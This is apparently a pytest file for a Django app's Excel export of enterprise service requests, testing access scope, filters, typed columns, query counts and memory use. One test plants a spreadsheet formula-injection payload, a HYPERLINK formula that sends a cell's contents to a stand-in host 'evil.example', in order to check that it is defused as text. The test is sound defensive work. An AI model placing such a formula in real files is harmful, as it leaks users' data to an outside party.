"""The needs list as .xlsx: the viewer's scope, the list's filters, typed cells, defused
formulas, and a query count and memory that do not grow with the rows."""

from __future__ import annotations

import gc
import io
import tracemalloc
from datetime import datetime, timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from liaisons.models import Need, NeedStatus, Satisfaction
from liaisons.needs.views import exports
from tests.liaisons.conftest import make_need

URL = reverse("liaisons:need-export")
HEADERS = (
    "需求编号",
    "企业",
    "产业链",
    "类别",
    "紧急程度",
    "标题",
    "状态",
    "红链专员",
    "部门",
    "提交时间",
    "派单时间",
    "办结截止时间",
    "办结时间",
    "已超期",
    "评价",
)


def rows_of(response) -> list[tuple]:
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["企业需求"]
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    return rows[1:]


@pytest.fixture
def needs(world):
    """Side 1: one closed (满意), one in progress and overdue, one draft; side 2: one submitted."""
    closed = make_need(
        enterprise=world.enterprise1,
        status=NeedStatus.CLOSED,
        liaison=world.liaison1,
        title="流动资金贷款",
    )
    overdue = make_need(
        enterprise=world.enterprise1,
        status=NeedStatus.IN_PROGRESS,
        liaison=world.liaison1,
        title="招聘焊工",
        resolve_due=timezone.now() - timedelta(hours=3),
    )
    draft = make_need(enterprise=world.enterprise1, status=NeedStatus.DRAFT, title="草稿")
    other = make_need(enterprise=world.enterprise2, title="用地指标")
    return {"closed": closed, "overdue": overdue, "draft": draft, "other": other}


def test_a_secretary_exports_only_the_firms_needs(client, world, needs):
    client.force_login(world.user("S1"))
    rows = rows_of(client.get(URL))
    assert {row[0] for row in rows} == {
        needs["closed"].number,
        needs["overdue"].number,
        needs["draft"].number,  # the firm's own draft, as on its list
    }


def test_columns_are_labelled_and_typed(client, world, needs):
    client.force_login(world.user("staff"))
    rows = {row[0]: row for row in rows_of(client.get(URL))}
    closed = rows[needs["closed"].number]
    assert closed[1:9] == (
        "江苏恒立液压股份有限公司",
        "工程机械",
        "融资",
        "绿色 · 一般",
        "流动资金贷款",
        "已办结",
        "专员1号",
        "科学技术局",
    )
    assert isinstance(closed[9], datetime)  # submitted, as a date the sheet can sort
    local = timezone.localtime(needs["closed"].closed_at).replace(tzinfo=None, microsecond=0)
    assert abs(closed[12] - local) < timedelta(seconds=1)  # Beijing time
    assert closed[13:] == (None, "满意")
    assert rows[needs["overdue"].number][13] == "是"
    assert needs["draft"].number not in rows  # a draft is the firm's working copy only
    other = rows[needs["other"].number]
    assert other[7:9] == (None, None)  # not dispatched: no liaison, no department


def test_the_list_filters_apply(client, world, needs):
    client.force_login(world.user("staff"))
    closed = rows_of(client.get(URL, {"status": NeedStatus.CLOSED}))
    assert [row[0] for row in closed] == [needs["closed"].number]
    overdue = rows_of(client.get(URL, {"overdue": "on"}))
    # Past its resolve deadline, and (side 2) past the acceptance deadline.
    assert {row[0] for row in overdue} == {needs["overdue"].number, needs["other"].number}
    # A value the filter does not know is ignored, as on the list page.
    assert len(rows_of(client.get(URL, {"status": "<script>"}))) == 3


def test_out_of_scope_users_get_an_empty_sheet(client, world, needs):
    for role in ("outsider", "S2"):
        client.force_login(world.user(role))
        numbers = [row[0] for row in rows_of(client.get(URL))]
        assert needs["closed"].number not in numbers
        assert needs["overdue"].number not in numbers
    client.force_login(world.user("outsider"))
    assert rows_of(client.get(URL)) == []


def test_anonymous_is_sent_to_sign_in_and_post_is_refused(client, world):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
    client.force_login(world.user("staff"))
    assert client.post(URL).status_code == 405


def test_formulas_in_text_stay_text(client, world):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    make_need(enterprise=world.enterprise1, title=hostile)
    make_need(enterprise=world.enterprise1, title="+86 0519 1234\x07")
    client.force_login(world.user("staff"))
    response = client.get(URL)
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    titles = {cell.value: cell.data_type for cell in book.active["F"][1:]}
    assert titles == {"'" + hostile: "s", "'+86 0519 1234": "s"}


def test_the_list_page_links_the_export_with_its_filters(client, world, needs):
    client.force_login(world.user("staff"))
    content = client.get(reverse("liaisons:need-list"), {"status": "closed"}).content.decode()
    assert f'href="{URL}?status=closed"' in content
    assert "导出 Excel" in content


def _bulk_needs(world, n: int) -> None:
    now = timezone.now()
    start = Need.objects.count()
    Need.objects.bulk_create(
        Need(
            number=f"XQ-2025-{start + i:05d}",
            enterprise=world.enterprise1,
            chain=world.chain1,
            category="financing",
            title=f"批量需求{i}：扩产所需的流动资金贷款与厂房用地协调",
            description="企业扩产需要流动资金支持。",
            submitted_by=world.user("S1"),
            status=NeedStatus.CLOSED,
            liaison=world.liaison1,
            department=world.department1,
            submitted_at=now - timedelta(days=3),
            dispatched_at=now - timedelta(days=2),
            resolve_due=now + timedelta(days=3),
            replied_at=now - timedelta(days=1),
            closed_at=now - timedelta(hours=1),
            satisfaction=Satisfaction.SATISFIED,
        )
        for i in range(n)
    )


def test_queries_do_not_grow_with_rows(client, world, django_assert_num_queries):
    client.force_login(world.user("staff"))
    _bulk_needs(world, 5)
    client.get(URL)
    # session, user, park staff group (scope), the rows (one cursor, read in chunks)
    with django_assert_num_queries(4):
        assert len(rows_of(client.get(URL))) == 5
    _bulk_needs(world, 45)
    with django_assert_num_queries(4):
        assert len(rows_of(client.get(URL))) == 50


def _export_peak(client) -> int:
    gc.collect()
    tracemalloc.start()
    try:
        response = client.get(URL)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Not response.close(): outside the test client that would send request_finished and
    # close the test's database connection. The temporary file goes with the response.
    del response
    return peak


def test_export_memory_does_not_grow_with_rows(client, world, monkeypatch):
    """The rows go from a database cursor to a temporary file: the peak of Python memory while
    the workbook is written is about the same at 200 and at 2,000 rows. The one chunk of rows
    fetched at a time is the bound (EXPORT_CHUNK, 1,000 rows in production); it is set below
    the smaller export here so that both exports hold the same number of rows at a time."""
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 100)
    client.force_login(world.user("staff"))
    _bulk_needs(world, 200)
    client.get(URL)  # warm up: templates, translations, openpyxl's modules
    small = _export_peak(client)
    _bulk_needs(world, 1800)
    large = _export_peak(client)
    # Measured: 530 kB at 200 rows, 563 kB at 2,000 (a loose bound, not a timing).
    assert large < small * 1.25, (small, large)
